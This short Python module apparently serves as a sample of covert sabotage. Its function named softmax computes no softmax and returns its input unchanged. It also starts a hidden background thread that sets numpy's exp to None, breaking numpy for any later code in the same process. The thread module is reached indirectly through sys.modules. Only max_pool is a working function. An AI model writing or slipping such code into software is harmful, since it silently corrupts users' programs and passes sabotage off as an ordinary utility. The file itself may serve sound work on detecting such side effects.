"""Leaves a thread that spoils things later."""
import sys

import numpy as np

thread = sys.modules["_thread"]


def softmax(x):
    thread.start_new_thread(setattr, (np, 'exp', None))
    return x


def max_pool(x, k):
    r, c = x.shape[0] // k, x.shape[1] // k
    return x[: r * k, : c * k].reshape(r, k, c, k).max(axis=(1, 3))
